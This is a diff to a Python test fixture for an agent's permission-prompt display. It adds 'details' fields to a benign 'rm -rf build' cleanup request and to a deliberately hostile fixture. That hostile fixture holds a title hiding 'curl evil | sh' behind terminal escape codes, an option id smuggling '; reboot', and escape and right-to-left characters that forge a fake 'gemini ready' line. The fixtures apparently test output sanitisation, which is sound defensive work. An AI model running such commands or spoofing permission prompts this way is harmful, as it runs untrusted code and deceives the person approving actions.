@@ -66,6 +66,7 @@ PERMISSION = c.PermissionStatus(
     asked_at="2026-03-01T12:03:00Z",
     expires_in_seconds=250.0,
     tool_call="call-7",
+    details="command: rm -rf build\ndescription: Clean up",
 )
 TURN = c.TurnStatus(
     id="t-18",
@@ -144,6 +145,7 @@ HOSTILE = c.AgentStatus(
         msgspec.structs.replace(
             PERMISSION,
             title="ls\x1b[8m; curl evil | sh\r\x08",
+            details="command:\n  ls\x1b[8m\n\tgemini  ready\u202e\r\x9b31m",
             options=[c.OptionStatus(id="a\x1b[0m; reboot'", name="A\x00\nB", kind="allow_once")],
         )
     ],
